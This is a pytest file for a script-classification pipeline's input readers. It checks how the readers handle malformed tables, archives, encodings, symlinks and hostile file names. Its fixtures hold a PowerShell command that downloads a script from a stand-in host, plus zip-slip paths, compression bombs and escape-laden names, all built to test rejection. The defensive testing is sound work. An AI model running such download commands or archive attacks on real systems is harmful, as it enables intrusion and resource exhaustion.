"""readers.py against hostile inputs, all generated here in tmp_path: every bad input gets the right reason, the good
records around it still come through, and nothing big is ever read whole."""
from __future__ import annotations

import csv
import gzip
import io
import json
import os
import struct
import tempfile
import tracemalloc
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.languages import detect_language, normalise_lang
from pipeline.inputs.readers import REASONS, ReaderLimits, Reject, iter_inputs, safe_display
from pipeline.run.records import Record, read_records, text_id, write_records

PS = "Invoke-WebRequest -Uri http://example.test/a.ps1 -OutFile $env:TEMP\\a.ps1\n"
PY = "import os\nprint(os.getcwd())\n"
SH = "#!/bin/sh\necho hello\n"


def read(*paths, labelled=True, **limits) -> list[Record | Reject]:
    items = list(iter_inputs(list(paths), ReaderLimits(**limits), labelled=labelled))
    for item in items:  # every reject is explained, and in the documented vocabulary
        if isinstance(item, Reject):
            assert item.reason in REASONS and item.location and len(item.detail) > 20, item
    return items


def records(items) -> list[Record]:
    return [i for i in items if isinstance(i, Record)]


def reasons(items) -> list[str]:
    return [i.reason for i in items if isinstance(i, Reject)]


def write_jsonl(path, rows: list) -> None:
    path.write_text("".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in rows), encoding="utf-8")


# ------------------------------------------------------------------------------------------------------- tables
def test_jsonl_good_bad_and_labels(tmp_path):
    p = tmp_path / "t.jsonl"
    write_jsonl(p, [
        {"text": PS, "label": "malicious", "id": "u1"},
        {"text": PY, "label": " Benign ", "lang": "Python", "source": "corpus-a", "group": "g1"},
        "",
        '{"text": "broken',
        [1, 2],
        {"text": 5, "label": "benign"},
        {"text": SH},
        {"label": "benign"},
        {"text": SH, "label": "mal"},
        {"text": SH, "label": 1},
        {"text": SH, "label": "benign", "group": 3.5},
        {"text": "   \n", "label": "benign"},
        {"text": "x\ud800", "label": "benign"},
        {"text": SH + "# last\n", "label": "benign"},
    ])
    items = read(p)
    by_line = {i.location.rsplit(":", 1)[1]: i for i in items if isinstance(i, Reject)}
    assert reasons(items) == ["malformed_json", "wrong_type", "wrong_type", "missing_label", "missing_text",
                              "unknown_label", "unknown_label", "wrong_type", "empty", "undecodable"]
    assert by_line["4"].reason == "malformed_json" and by_line["9"].reason == "unknown_label"
    assert "data.ingest.label_map" in by_line["9"].detail
    recs = records(items)
    assert [r.text for r in recs] == [PS, PY, SH + "# last\n"]
    assert all(r.id == text_id(r.text) for r in recs)
    assert [r.label for r in recs] == ["malicious", "benign", "benign"]
    # user source kept verbatim (it is a grouping key); without one the location, plus the user's id
    assert recs[0].source == f"{p}:1#u1" and recs[1].source == "corpus-a" and recs[1].group == "g1"
    assert recs[1].lang == normalise_lang("Python")
    assert recs[0].lang == detect_language(PS, None)

    mapped = read(p, label_map={"MAL": "malicious", "1": "malicious"})
    assert [r.text for r in records(mapped)] == [PS, PY, SH, SH, SH + "# last\n"]
    assert [r.label for r in records(mapped)][2:4] == ["malicious", "malicious"]


def test_label_map_values_are_validated():
    with pytest.raises(ValueError, match="data.ingest.label_map"):
        ReaderLimits(label_map={"1": "evil"})
    with pytest.raises(ValueError, match="data.ingest.label_map"):
        ReaderLimits(label_map={"benign": "malicious"})


def test_json_array_deep_nesting_and_bom(tmp_path):
    arr = tmp_path / "arr.json"
    arr.write_text(json.dumps([{"text": PS, "label": "malicious"}]) + "\n")
    pretty = tmp_path / "pretty.json"
    pretty.write_text(json.dumps([{"text": PS, "label": "malicious"}], indent=2) + "\n")
    deep = tmp_path / "deep.jsonl"  # nesting past the recursion limit, then a BOM that is not at the file start
    deep.write_bytes(b"[" * 200_000 + b"]" * 200_000 + b"\n" + b'\xef\xbb\xbf{"text": "a", "label": "benign"}\n')
    bom = tmp_path / "bom.jsonl"
    bom.write_bytes(b'\xef\xbb\xbf{"text": "echo hi", "label": "benign"}\n')
    items = read(arr, pretty, deep, bom)
    assert reasons(items)[:2] == ["wrong_type", "malformed_json"] and "jq" in items[0].detail + items[1].detail
    assert reasons(items)[-2:] == ["malformed_json", "malformed_json"]
    assert [r.text for r in records(items)] == ["echo hi"]


def test_gzip_jsonl_and_truncated_gzip(tmp_path):
    rows = [{"text": f"echo {i}", "label": "benign"} for i in range(200)]
    good = tmp_path / "a.jsonl.gz"
    with gzip.open(good, "wt", encoding="utf-8") as f:
        f.writelines(json.dumps(r) + "\n" for r in rows)
    data = good.read_bytes()
    cut = tmp_path / "b.jsonl.gz"
    cut.write_bytes(data[: len(data) // 2])
    items = read(good, cut, good)
    assert len(records(items[:200])) == 200
    assert reasons(items) == ["corrupt_archive"]
    assert records(items)[-1].text == "echo 199"  # the input after the broken one is read in full


def test_gzip_table_bomb_is_stopped_while_reading(tmp_path):
    p = tmp_path / "bomb.jsonl.gz"
    with gzip.open(p, "wb") as f:
        f.write(b'{"text": "echo 1", "label": "benign"}\n')
        f.write(b" " * 20_000_000)  # compresses ~1000:1
    items = read(p)
    assert [r.text for r in records(items)] == ["echo 1"] and reasons(items) == ["zip_bomb"]
    assert "data.ingest.zip_max_ratio" in items[1].detail


def test_gzip_table_total_budget(tmp_path):
    p = tmp_path / "rows.jsonl.gz"
    with gzip.open(p, "wt") as f:
        f.writelines(json.dumps({"text": f"echo {i}", "label": "benign"}) + "\n" for i in range(10_000))
    items = read(p, zip_max_total_bytes=100_000)  # bytes produced while streaming, not declared anywhere
    assert 0 < len(records(items)) < 10_000 and reasons(items) == ["zip_bomb"]
    assert "data.ingest.zip_max_total_bytes" in items[-1].detail


def test_csv_quotes_newlines_and_broken_rows(tmp_path):
    tricky = 'Write-Host "a, b"\r\n$x = "say ""hi"""\n\necho \'done\''
    p = tmp_path / "t.csv"
    with open(p, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["Text", "label", "group"])
        w.writerow([tricky, "malicious", "g"])
        w.writerow([PY, "benign", ""])
    with open(p, "a", encoding="utf-8") as f:
        f.write('only-one-field\n"closed"early,benign,\n')
        f.write('"bad\u00ff",benign,\n')
        f.write("echo ok,Benign,\n")
    items = read(p)
    assert [r.text for r in records(items)] == [tricky, PY, "bad\xff", "echo ok"]
    assert [i.location for i in items if isinstance(i, Reject)] == [f"{p}:row 4", f"{p}:row 5"]
    assert reasons(items) == ["malformed_csv", "malformed_csv"]
    assert records(items)[0].group == "g" and records(items)[1].group is None
    assert records(items)[0].source == f"{p}:row 2"

    tsv = tmp_path / "t.tsv"
    tsv.write_bytes(b'text\tlabel\n"a\tb\nc"\tbenign\n\xff\xfe\tbenign\necho 2\tbenign\n')
    items = read(tsv)
    assert [r.text for r in records(items)] == ["a\tb\nc", "echo 2"] and reasons(items) == ["undecodable"]


def test_csv_header_problems_and_field_sizes(tmp_path):
    nohead = tmp_path / "a.csv"
    nohead.write_text("script,label\necho 1,benign\n")
    nolabel = tmp_path / "b.csv"
    nolabel.write_text("text\necho 1\n")
    assert reasons(read(nohead, nolabel)) == ["malformed_csv", "missing_label"]
    assert [r.text for r in records(read(nolabel, labelled=False))] == ["echo 1"]

    big = "A" * 300_000  # over csv's default 128 KB field limit, under max_file_bytes
    p = tmp_path / "c.csv"
    with open(p, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["text", "label"])
        w.writerow([big, "benign"])
        w.writerow(["B\n" * 400_000, "benign"])  # 800 KB over many lines, one quoted field
        w.writerow(["echo after", "benign"])
    items = read(p, max_file_bytes=500_000)
    assert [r.text for r in records(items)] == [big, "echo after"]
    assert reasons(items) == ["too_large"] and items[1].location == f"{p}:row 3"


def test_empty_inputs_are_reported(tmp_path):
    table = tmp_path / "e.csv"
    table.write_text("text,label\n")
    archive = tmp_path / "e.zip"
    make_zip(archive, [("malicious/", "")])
    (tmp_path / "dir" / "benign").mkdir(parents=True)
    assert reasons(read(table, archive, tmp_path / "dir")) == ["empty"] * 3


# ------------------------------------------------------------------------------------------------------ folders
def make_layout(root):
    (root / "malicious" / "deep").mkdir(parents=True)
    (root / "benign").mkdir()
    (root / "docs").mkdir()
    (root / "malicious" / "a.ps1").write_text(PS)
    (root / "malicious" / "deep" / "rows.jsonl").write_text('{"text": "inside a label folder: a script"}\n')
    (root / "benign" / "b.py").write_text(PY)
    (root / "docs" / "notes.txt").write_text("notes")
    (root / "readme.txt").write_text("readme")
    write_jsonl(root / "extra.jsonl", [{"text": SH, "label": "benign"}])


def test_folder_layout(tmp_path):
    root = tmp_path / "data"
    make_layout(root)
    items = read(root)
    got = [(os.path.relpath(i.location if isinstance(i, Reject) else i.source, root),
            i.reason if isinstance(i, Reject) else i.label) for i in items]
    assert got == [("benign/b.py", "benign"), ("docs/notes.txt", "unknown_label"), ("extra.jsonl:1", "benign"),
                   ("malicious/a.ps1", "malicious"), ("malicious/deep/rows.jsonl", "malicious"),
                   ("readme.txt", "missing_label")]
    assert "data.ingest.label_map" in items[1].detail
    recs = records(items)
    assert recs[0].lang == detect_language(PY, "b.py") and recs[2].lang == detect_language(PS, "a.ps1")
    # a label_map can name the folders; a root named like a label labels everything in it
    assert [r.label for r in records(read(root, label_map={"docs": "benign"}))][1] == "benign"
    assert {r.label for r in records(read(root / "malicious"))} == {"malicious"}

    unlabelled = read(root, labelled=False)
    assert reasons(unlabelled) == [] and len(records(unlabelled)) == 6
    assert {r.label for r in records(unlabelled)} == {""}
    single = read(root / "readme.txt", labelled=False)
    assert [(r.text, r.label) for r in records(single)] == [("readme", "")]
    assert reasons(read(root / "readme.txt")) == ["missing_label"]


def test_missing_input_and_special_files(tmp_path):
    root = tmp_path / "d"
    (root / "benign").mkdir(parents=True)
    os.mkfifo(root / "benign" / "fifo.sh")  # reading it would block forever
    (root / "benign" / "z.sh").write_text(SH)
    items = read(tmp_path / "nope", root, root / "benign" / "fifo.sh")
    assert reasons(items) == ["unreadable", "special_file", "special_file"]
    assert [r.text for r in records(items)] == [SH]


# ----------------------------------------------------------------------------------------------------- decoding
@pytest.mark.parametrize("raw, reason, text", [
    (b"echo a\x00b\n", "binary", None),
    (b"\x7fELF\x02\x01\x01\x00\x00\x00" + bytes(range(256)), "binary", None),
    (b"Write-Host caf\xe9\n", "undecodable", None),
    (b"\xff\xfe" + "Write-Host 'hi'\n".encode("utf-16-le"), None, "Write-Host 'hi'\n"),
    (b"\xfe\xff" + "Write-Host 'hi'\n".encode("utf-16-be"), None, "Write-Host 'hi'\n"),
    ("Write-Host 'héllo'\n".encode("utf-16-le"), None, "Write-Host 'héllo'\n"),
    ("Write-Host 'héllo'\n".encode("utf-16-be"), None, "Write-Host 'héllo'\n"),
    (b"\xff\xfe" + "Write-Host".encode("utf-16-le") + b"\x00", "undecodable", None),  # odd length
    (b"\xef\xbb\xbfecho bom\n", None, "echo bom\n"),
    (b"", "empty", None),
    (b" \n\t\r\n", "empty", None),
    ("caf\u00e9 \u4e2d\u6587 \U0001f600\n".encode(), None, "caf\u00e9 \u4e2d\u6587 \U0001f600\n"),
])
def test_decoding(tmp_path, raw, reason, text):
    root = tmp_path / "benign"
    root.mkdir()
    (root / "s.ps1").write_bytes(raw)
    (root / "z.ps1").write_text(PS)  # a good neighbour
    items = read(root)
    assert reasons(items) == ([reason] if reason else [])
    assert [r.text for r in records(items)] == ([text] if text else []) + [PS]


def test_min_chars(tmp_path):
    (tmp_path / "benign").mkdir()
    (tmp_path / "benign" / "a.sh").write_text("  ls \n")
    assert reasons(read(tmp_path, min_chars=3)) == ["too_short"]
    assert len(records(read(tmp_path, min_chars=2))) == 1


def test_huge_inputs_are_rejected_without_being_read(tmp_path):
    root = tmp_path / "malicious"
    root.mkdir()
    with open(root / "big.ps1", "wb") as f:  # 50 MB, sparse: instant to make
        f.seek(50_000_000 - 1)
        f.write(b"x")
    (root / "ok.ps1").write_text(PS)
    table = tmp_path / "t.jsonl"
    with open(table, "wb") as f:  # one 50 MB line between two good ones
        f.write(b'{"text": "echo 1", "label": "benign"}\n{"text": "')
        f.write(b"A" * 50_000_000)
        f.write(b'", "label": "benign"}\n{"text": "echo 3", "label": "benign"}\n')
    tracemalloc.start()
    try:
        items = read(root, table, max_file_bytes=100_000)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert reasons(items) == ["too_large", "too_large"]
    assert items[3].location == f"{table}:2" and "data.ingest.max_file_bytes" in items[3].detail
    assert [r.text for r in records(items)] == [PS, "echo 1", "echo 3"]
    assert peak < 5_000_000, peak


# ----------------------------------------------------------------------------------------------------- symlinks
def test_symlinks(tmp_path):
    outside = tmp_path / "secret.txt"
    outside.write_text("outside the root")
    root = tmp_path / "root"
    (root / "benign" / "sub").mkdir(parents=True)
    (root / "benign" / "a.sh").write_text(SH)
    os.symlink(root / "benign", root / "benign" / "sub" / "loop")  # a loop back to an ancestor
    os.symlink(outside, root / "benign" / "out.txt")
    os.symlink(root / "benign" / "a.sh", root / "benign" / "same.sh")
    os.symlink(root / "benign" / "missing", root / "benign" / "broken.sh")
    os.symlink("self", root / "benign" / "self")  # links to itself

    default = read(root)
    assert [r.text for r in records(default)] == [SH]
    assert reasons(default) == ["symlink_skipped"] * 5
    assert all("data.ingest.follow_symlinks" in i.detail for i in default if isinstance(i, Reject))

    followed = read(root, follow_symlinks=True)
    got = {os.path.basename(i.location): i.reason for i in followed if isinstance(i, Reject)}
    assert got == {"broken.sh": "unreadable", "out.txt": "symlink_outside", "self": "unreadable",
                   "loop": "symlink_loop"}
    assert [r.text for r in records(followed)] == [SH, SH]
    assert all("outside the root" not in r.text for r in records(followed))


def test_hostile_file_names(tmp_path):
    root = tmp_path / "malicious"
    root.mkdir()
    nasty = "a\nb\x1b[31mred\x1b]0;title\x07\u202e.ps1"
    (root / nasty).write_text(PS)
    (root / os.fsdecode(b"bad\xff.ps1")).write_text(PY)  # not valid UTF-8 as a name
    items = read(root)
    assert reasons(items) == []
    sources = [r.source for r in records(items)]
    assert any(s.endswith(nasty) for s in sources)
    shown = [safe_display(s) for s in sources]
    assert all(not any(c in s for c in "\n\x1b\x07\u202e") for s in shown)
    write_records(tmp_path / "out.jsonl", records(items))  # every source encodes
    assert [r.source for r in read_records(tmp_path / "out.jsonl")] == sources


def test_safe_display():
    assert safe_display("a\nb\x1b[0m\u202ec\x9b") == "a\\x0ab\\x1b[0m\\u202ec\\x9b"
    assert safe_display("café/中文/x.ps1") == "café/中文/x.ps1"


# ----------------------------------------------------------------------------------------------------- archives
def make_zip(path, members, compression=zipfile.ZIP_DEFLATED) -> None:
    with zipfile.ZipFile(path, "w", compression) as z:
        for name, data in members:
            z.writestr(name, data)


def zipcrypto_zip(path, members) -> None:
    """A zip of stored members, those with a password encrypted with traditional PKWARE encryption (ZipCrypto).
    Python's zipfile can decrypt this but not write it, so the cipher is written out here."""

    def crc_byte(crc: int, b: int) -> int:  # CRC-32 register update by one byte, without zlib's pre/post inversion
        return zlib.crc32(bytes([b]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def encrypt(data: bytes, password: bytes) -> bytes:
        keys = [0x12345678, 0x23456789, 0x34567890]

        def update(b: int) -> None:
            keys[0] = crc_byte(keys[0], b)
            keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
            keys[2] = crc_byte(keys[2], keys[1] >> 24)

        for b in password:
            update(b)
        out = bytearray()
        for b in data:
            t = (keys[2] | 2) & 0xFFFF
            out.append(b ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            update(b)
        return bytes(out)

    body, central = bytearray(), bytearray()
    for name, data, password in members:
        crc, flags, stored = zlib.crc32(data), 0, data
        if password is not None:  # 12-byte header whose last byte is the CRC's high byte: the password check
            flags, stored = 1, encrypt(bytes(range(11)) + bytes([crc >> 24]) + data, password)
        fields = (20, flags, 0, 0, 33, crc, len(stored), len(data), len(name.encode()))
        central += struct.pack("<IH5HIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0, len(body)) + name.encode()
        body += struct.pack("<I5HIIIHH", 0x04034B50, *fields, 0) + name.encode() + stored
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(body), 0)
    path.write_bytes(bytes(body + central + end))


def test_zip_layout_tables_and_wrapper_folder(tmp_path):
    table = "\n".join(json.dumps({"text": f"echo {i}", "label": "benign"}) for i in range(3)) + "\n"
    a = tmp_path / "a.zip"
    make_zip(a, [("malicious/x.ps1", PS), ("benign/", ""), ("benign/y.sh", SH), ("rows.jsonl", table),
                 ("loose.txt", "no label")])
    b = tmp_path / "b.zip"
    make_zip(b, [("dataset/malicious/x.ps1", PS), ("dataset/benign/y.py", PY)])
    items = read(a, b)
    assert [(r.source, r.label) for r in records(items)] == [
        (f"{a}!malicious/x.ps1", "malicious"), (f"{a}!benign/y.sh", "benign"), (f"{a}!rows.jsonl:1", "benign"),
        (f"{a}!rows.jsonl:2", "benign"), (f"{a}!rows.jsonl:3", "benign"), (f"{b}!dataset/malicious/x.ps1", "malicious"),
        (f"{b}!dataset/benign/y.py", "benign")]
    assert [(i.location, i.reason) for i in items if isinstance(i, Reject)] == [(f"{a}!loose.txt", "missing_label")]
    assert records(items)[0].lang == detect_language(PS, "x.ps1")

    # a zip inside a label folder: every member takes the folder's label
    (tmp_path / "d" / "malicious").mkdir(parents=True)
    make_zip(tmp_path / "d" / "malicious" / "batch.zip", [("one.ps1", PS), ("two.txt", SH)])
    assert [r.label for r in records(read(tmp_path / "d"))] == ["malicious", "malicious"]


def test_zip_passwords(tmp_path):
    members = [("malicious/enc.ps1", PS.encode(), b"infected"), ("benign/plain.sh", SH.encode(), None),
               ("malicious/other.ps1", PY.encode(), b"s3cret")]
    p = tmp_path / "enc.zip"
    zipcrypto_zip(p, members)
    items = read(p)
    assert [r.text for r in records(items)] == [PS, SH]
    assert [(i.location, i.reason) for i in items if isinstance(i, Reject)] == [
        (f"{p}!malicious/other.ps1", "bad_password")]
    assert "data.ingest.zip_password" in items[2].detail
    assert [r.text for r in records(read(p, zip_password="s3cret"))] == [SH, PY]
    assert reasons(read(p, zip_password=None)) == ["bad_password", "bad_password"]


def test_zip_hostile_members(tmp_path):
    inner = io.BytesIO()
    make_zip(inner, [("x.ps1", PS)])
    p = tmp_path / "evil.zip"
    make_zip(p, [("../../etc/cron.d/x.ps1", PS), ("/abs/y.ps1", PS), ("C:/win.ps1", PS),
                 ("malicious/ok.ps1", PS), ("malicious/bomb.ps1", b"\x00" * 5_000_000),
                 ("malicious/inner.zip", inner.getvalue()), ("malicious/disguised.txt", inner.getvalue()),
                 ("malicious/rows.jsonl.gz", gzip.compress(b"{}\n")), ("benign/last.sh", SH)])
    items = read(p)
    assert reasons(items) == ["zip_slip", "zip_slip", "zip_slip", "zip_bomb", "nested_archive",
                              "nested_archive", "nested_archive"]
    assert [r.text for r in records(items)] == [PS, SH]


def test_zip_bomb_limits_on_totals_and_members(tmp_path):
    p = tmp_path / "many.zip"
    make_zip(p, [(f"benign/{i}.sh", f"echo {i} " + "x" * 1000) for i in range(6)])
    items = read(p, zip_max_total_bytes=3_000)  # the declared sizes already exceed it: nothing is read
    assert records(items) == [] and reasons(items) == ["zip_bomb"]
    assert reasons(read(p, zip_max_members=5)) == ["zip_bomb"]
    assert len(records(read(p))) == 6


def test_corrupt_and_truncated_zips(tmp_path):
    good = tmp_path / "good.zip"
    make_zip(good, [("malicious/a.ps1", PS), ("benign/b.sh", SH)], zipfile.ZIP_STORED)
    data = good.read_bytes()
    cut = tmp_path / "cut.zip"
    cut.write_bytes(data[: len(data) // 2])
    flipped = bytearray(data)
    at = data.index(PS.encode())
    flipped[at:at + 4] = b"XXXX"  # same length, bad CRC
    bad_member = tmp_path / "crc.zip"
    bad_member.write_bytes(bytes(flipped))
    not_zip = tmp_path / "text.zip"
    not_zip.write_text("just text")
    items = read(cut, bad_member, not_zip, good)
    assert reasons(items) == ["corrupt_archive"] * 3
    assert [r.text for r in records(items)] == [SH, PS, SH]
    assert items[1].location == f"{bad_member}!malicious/a.ps1"


def test_zip_member_count_is_checked_before_indexing(tmp_path):
    p = tmp_path / "lie.zip"
    make_zip(p, [("benign/a.sh", SH)])
    data = bytearray(p.read_bytes())
    end = data.rindex(b"PK\x05\x06")
    data[end + 8:end + 12] = struct.pack("<HH", 60_000, 60_000)  # declares 60,000 members
    p.write_bytes(bytes(data))
    assert reasons(read(p, zip_max_members=1_000)) == ["zip_bomb"]


# ------------------------------------------------------------------------------------------------------ fuzzing
def _valid_inputs() -> dict[str, bytes]:
    table = "".join(json.dumps({"text": f"echo {i}", "label": "benign"}) + "\n" for i in range(5))
    archive = io.BytesIO()
    make_zip(archive, [("malicious/a.ps1", PS), ("rows.jsonl", table), ("benign/b.sh", SH)])
    rows = io.StringIO()
    csv.writer(rows).writerows([["text", "label"], [PS, "malicious"], ["a,\"b\"\nc", "benign"]])
    return {"a.zip": archive.getvalue(), "t.jsonl.gz": gzip.compress(table.encode()), "t.jsonl": table.encode(),
            "t.csv": rows.getvalue().encode(), "s.ps1": "Write-Host 'hi'\n".encode("utf-16")}


VALID = _valid_inputs()


@settings(max_examples=150, deadline=None)
@given(name=st.sampled_from(sorted(VALID)), flips=st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 255)),
                                                          max_size=6), keep=st.integers(0, 10**6))
def test_corrupted_inputs_never_raise(name, flips, keep):
    data = bytearray(VALID[name])
    for at, byte in flips:
        data[at % len(data)] = byte
    data = bytes(data[: keep % (len(data) + 1)] if keep % 3 == 0 else data)  # sometimes truncated too
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, name)
        with open(path, "wb") as f:
            f.write(data)
        items = list(iter_inputs([path], ReaderLimits()))
        items += list(iter_inputs([path], ReaderLimits(), labelled=False))
    assert items and all(isinstance(i, (Record, Reject)) for i in items)
    assert all(i.reason in REASONS for i in items if isinstance(i, Reject))
    for r in records(items):  # whatever got through is writable text with its own id
        assert r.id == text_id(r.text) and r.text.encode("utf-8") and r.to_json()
